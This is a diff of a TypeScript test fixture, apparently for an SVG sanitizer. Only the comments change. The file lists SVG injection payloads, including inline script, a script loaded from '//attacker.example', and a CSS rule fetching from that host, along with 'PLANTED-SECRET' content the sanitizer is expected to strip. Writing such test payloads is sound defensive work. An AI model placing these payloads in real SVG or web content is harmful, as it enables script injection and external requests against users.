@@ -1,4 +1,4 @@
-/** What a drawing could do besides drawing, by what it is; `//attacker.example` is never to be asked for anything. */
+/** Things a drawing could do besides drawing, by kind; `//attacker.example` must never be requested. */
 export const attacks: Readonly<Record<string, string>> = {
   script: '<script>document.title="run"</script>',
   'a script from elsewhere': '<script href="//attacker.example/x.js"/>',
@@ -45,7 +45,7 @@ export const attacks: Readonly<Record<string, string>> = {
   'a rule for some widths': '<style>@media all { rect { fill: url(//attacker.example/x.svg#a) } }</style>',
 };
 
-/** What is left out without a word, since nobody would miss it: all of this is harmless once it is gone. */
+/** Content that is dropped silently, because the drawing looks the same without it. */
 export const leftOut: Readonly<Record<string, string>> = {
   'a comment': '<!-- PLANTED-SECRET -->',
   metadata: '<metadata><d:creator xmlns:d="http://purl.org/dc/elements/1.1/">PLANTED-SECRET</d:creator></metadata>',
@@ -66,7 +66,12 @@ export const leftOut: Readonly<Record<string, string>> = {
   'an element of nobody': '<flowRoot>PLANTED-SECRET</flowRoot>',
 };
 
-/** @param inside Elements, as XML. @param before What stands before the drawing. */
+/**
+ * A drawing.
+ *
+ * @param inside Elements, as XML.
+ * @param before Text before the drawing.
+ */
 export function drawing(inside: string, before = ''): string {
   return `${before}<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40" viewBox="0 0 60 40">${inside}</svg>`;
 }
